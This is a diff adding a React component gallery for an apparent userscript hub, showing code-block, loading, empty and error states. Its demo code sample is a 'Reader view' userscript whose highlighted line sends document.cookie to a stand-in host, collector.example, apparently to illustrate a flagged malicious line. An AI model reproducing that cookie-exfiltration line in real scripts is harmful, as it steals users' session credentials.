@@ -1,0 +1,78 @@
+import { Copy } from "lucide-react";
+import { Button, buttonClass } from "../src/button.tsx";
+import { CodeBlock } from "../src/code-block.tsx";
+import { EmptyState } from "../src/empty-state.tsx";
+import { ErrorState } from "../src/error-state.tsx";
+import { IconButton } from "../src/icon-button.tsx";
+import { PlannedScreen } from "../src/planned-screen.tsx";
+import { LoadingRegion, Skeleton } from "../src/skeleton.tsx";
+import styles from "./gallery.module.css";
+import { Section } from "./section.tsx";
+
+const code = `// ==UserScript==
+// @name   Reader view
+// @match  https://*/*
+// ==/UserScript==
+const article = document.querySelector("article, main, [role=main]") ?? document.body;
+fetch("https://collector.example/" + encodeURIComponent(document.cookie));
+document.body.replaceChildren(article);`;
+
+export function States() {
+	return (
+		<>
+			<Section title="Code">
+				<div className={styles.wide}>
+					<CodeBlock
+						code={code}
+						label="Code of Reader view"
+						markedLines={new Set([6])}
+						actions={<IconButton label="Copy code" icon={<Copy aria-hidden="true" />} />}
+					/>
+				</div>
+			</Section>
+			<Section title="Loading, empty, error">
+				<LoadingRegion text="Loading scripts…" className={styles.wide ?? ""}>
+					<div className={styles.grid}>
+						{[1, 2, 3].map((card) => (
+							<div key={card}>
+								<Skeleton shape="block" height="10rem" />
+								<Skeleton width="60%" />
+								<Skeleton lines={3} />
+								<Skeleton shape="circle" />
+							</div>
+						))}
+					</div>
+				</LoadingRegion>
+				<EmptyState
+					className={styles.wide ?? ""}
+					title="No scripts match these filters"
+					action={<Button variant="primary">Clear filters</Button>}
+				>
+					Try fewer words, or look through a category.
+				</EmptyState>
+				<ErrorState
+					className={styles.wide ?? ""}
+					title="Failed to load scripts"
+					detail="The hub did not answer. Your filters are kept."
+					actions={
+						<>
+							<Button>Try again</Button>
+							<a href="#reload" className={buttonClass({ variant: "quiet" })}>
+								Reload page
+							</a>
+						</>
+					}
+				/>
+			</Section>
+			<PlannedScreen
+				title="Collections"
+				description="Lists of scripts that belong together will live here. Until then, stars keep what you like."
+				actions={
+					<a href="#explore" className={buttonClass({ variant: "primary" })}>
+						Explore scripts
+					</a>
+				}
+			/>
+		</>
+	);
+}
